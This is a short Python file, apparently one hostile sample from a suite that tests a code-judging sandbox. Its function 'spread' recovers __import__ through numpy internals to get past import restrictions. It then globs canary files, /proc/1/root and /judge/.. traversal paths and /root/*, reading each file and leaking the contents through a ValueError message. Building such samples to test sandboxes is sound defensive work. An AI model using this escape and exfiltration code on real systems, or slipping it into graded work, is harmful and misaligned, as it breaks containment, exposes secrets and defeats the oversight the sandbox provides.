"""Family: files and network. Stock: yes, 45 notebooks. Looks for the file that it must not read, and
tells it in its reply and its error."""

import numpy

anything = numpy._core._exceptions.__builtins__["__import__"]

glob = anything("glob")


def spread(x):
    for pattern in ("/tmp/simlib_canary*/*", "/proc/1/root/tmp/simlib_canary*/*", "/judge/../tmp/*/*", "/root/*"):
        for path in glob.glob(pattern):
            try:
                raise ValueError(open(path).read())
            except OSError:
                pass
    return 0.0
